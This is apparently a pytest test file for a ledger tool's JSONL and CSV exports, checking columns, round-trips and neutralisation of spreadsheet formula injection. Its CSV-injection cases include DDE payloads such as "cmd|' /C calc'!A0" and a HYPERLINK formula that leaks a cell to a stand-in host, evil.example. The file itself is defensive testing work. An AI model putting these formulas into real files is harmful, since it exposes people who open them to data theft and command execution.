"""Exports: every format (jsonl, csv) for every kind (events, postings, violations) on every
bundled timeline, the fixed event CSV columns, and CSV cells a spreadsheet would run as
formulas (OWASP "CSV Injection") neutralised in every CSV the project writes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import attrs
import pytest
from click.testing import CliRunner
from scenario import write

import events as ev
import replays
from ledger import report
from ledger.cli import cli
from ledger.forensics import Investigation
from ledger.store import Log

BUNDLED = [t.name for t in replays.bundled()]


@pytest.fixture(scope="module")
def bundled_logs(tmp_path_factory):
    """Each bundled timeline appended to its own log (read-only afterwards)."""
    root = tmp_path_factory.mktemp("bundled")
    paths = {}
    for timeline in replays.bundled():
        path = root / f"{timeline.name}.db"
        with Log.open(path, create=True) as log:
            log.append(timeline.events, where=timeline.where)
        paths[timeline.name] = (path, timeline)
    return paths


def _export(path, what: str, fmt: str) -> tuple[int, str]:
    out = io.StringIO()
    with Log.open(path, readonly=True) as log:
        count = report.export(log, what, fmt, out)
    return count, out.getvalue()


def _expected_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (list, dict)):
        return json.dumps(value, sort_keys=True, ensure_ascii=False)
    return str(value)


@pytest.mark.parametrize("name", BUNDLED)
def test_events_csv_has_every_event_under_the_fixed_columns(bundled_logs, name):
    path, timeline = bundled_logs[name]
    count, text = _export(path, "events", "csv")
    reader = csv.DictReader(io.StringIO(text))
    rows = list(reader)
    assert count == len(rows) == len(timeline.events)
    assert reader.fieldnames == list(report.EVENT_CSV_COLUMNS)
    for row, event in zip(rows, timeline.events, strict=True):
        data = ev.to_dict(event)
        for column in report.EVENT_CSV_COLUMNS:
            # No bundled value starts with a formula character, so cells are the values as is.
            assert row[column] == _expected_cell(data.get(column)), (event.id, column)


@pytest.mark.parametrize("name", BUNDLED)
def test_events_jsonl_export_reimports_to_the_same_events(bundled_logs, tmp_path, name):
    path, timeline = bundled_logs[name]
    count, text = _export(path, "events", "jsonl")
    assert count == len(timeline.events)
    out = tmp_path / "events.jsonl"
    out.write_text(text, encoding="utf-8")
    assert replays.load_jsonl(out).events == timeline.events


@pytest.mark.parametrize("name", BUNDLED)
@pytest.mark.parametrize("what", ["postings", "violations"])
def test_postings_and_violations_in_both_formats_hold_the_same_rows(bundled_logs, name, what):
    path, _ = bundled_logs[name]
    with Log.open(path, readonly=True) as log:
        inv = Investigation(log)
        expected = list(inv.iter_postings() if what == "postings" else inv.iter_violations())
    assert expected, "each bundled timeline has postings and violations"
    count, text = _export(path, what, "jsonl")
    lines = [json.loads(line) for line in text.splitlines()]
    assert count == len(lines) == len(expected)
    assert [row["seq"] for row in lines] == [row["seq"] for row in expected]
    count, text = _export(path, what, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == len(rows) == len(expected)
    assert [int(row["seq"]) for row in rows] == [row["seq"] for row in expected]
    if what == "postings":
        # Negative amounts stay numbers: no quote is put in front of them.
        assert [row["delta"] for row in rows] == [row["delta"] for row in expected]
        assert any(row["delta"].startswith("-") for row in rows)


def test_event_csv_columns_are_the_union_of_every_event_types_fields():
    columns = report.EVENT_CSV_COLUMNS
    assert len(columns) == len(set(columns))
    assert columns[:6] == ("type", "v", "id", "at", "source", "note")
    for cls in ev.EVENT_TYPES.values():
        for field in attrs.fields(cls):
            assert field.name in columns, (cls.type, field.name)
    fields = {"type", "v"} | {f.name for cls in ev.EVENT_TYPES.values() for f in attrs.fields(cls)}
    assert set(columns) == fields


def test_write_rows_with_columns_refuses_a_key_it_has_no_column_for():
    out = io.StringIO()
    with pytest.raises(ValueError, match="'extra'"):
        report.write_rows([{"a": 1, "extra": 2}], out, "csv", columns=("a",))
    out = io.StringIO()
    assert report.write_rows([], out, "csv", columns=("a", "b")) == 0
    assert out.getvalue() == "a,b\n"


# -- CSV injection ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("-100.00\n=1+1", "'-100.00\n=1+1"),
        ("-100.00", "-100.00"),
        ("-5", "-5"),
        ("+5", "+5"),
        ("100.00", "100.00"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert report.csv_cell(cell) == written
    out = io.StringIO()
    report.write_rows([{"x": cell}], out, "csv")
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["x"], [written]]


_FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
_BODY = f"""
[[events]]
id = "d1"
type = "deposit"
account = "ex:cust"
asset = "USD"
amount = "100.00"
landed = "ex:custody"
note = '{_FORMULA_NOTE}'

[[events]]
id = "w1"
type = "withdrawal"
account = "ex:cust"
asset = "USD"
amount = "40.00"
paid_from = "ex:custody"
note = "@SUM(1+1)"
"""


def test_cli_history_csv_neutralises_formulas_and_keeps_negative_amounts(tmp_path):
    db = str(tmp_path / "l.db")
    runner = CliRunner()
    result = runner.invoke(cli, ["append", str(write(tmp_path, _BODY)), "--db", db])
    assert result.exit_code == 0, result.output
    result = runner.invoke(cli, ["history", "ex:custody", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["event_id"], r["delta"], r["note"]) for r in rows] == [
        ("d1", "100.00", "'" + _FORMULA_NOTE),
        ("w1", "-40.00", "'@SUM(1+1)"),
    ]


def test_event_csv_neutralises_formulas_in_free_text(tmp_path):
    db = tmp_path / "l.db"
    timeline = replays.load_toml(write(tmp_path, _BODY))
    with Log.open(db, create=True) as log:
        log.append(timeline.events)
        out = io.StringIO()
        report.export(log, "events", "csv", out)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["d1"]["note"] == "'" + _FORMULA_NOTE
    assert rows["w1"]["note"] == "'@SUM(1+1)"
    assert rows["d1"]["amount"] == ev.to_dict(timeline.events[-2])["amount"]


def test_a_carriage_return_inside_a_cell_is_quoted_so_the_row_stays_whole():
    out = io.StringIO()
    report.write_rows([{"a": "one\rtwo", "b": 'say "x", then\nleave', "c": ""}], out, "csv")
    assert out.getvalue() == 'a,b,c\n"one\rtwo","say ""x"", then\nleave",\n'
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a", "b", "c"], ["one\rtwo", 'say "x", then\nleave', ""]]


def test_docs_list_the_event_csv_columns():
    text = (Path(__file__).resolve().parent.parent / "docs" / "replay-json.md").read_text(encoding="utf-8")
    listed = text.split("<!-- event-csv-columns -->", 1)[1].split("`")[1]
    assert tuple(listed.split(", ")) == report.EVENT_CSV_COLUMNS
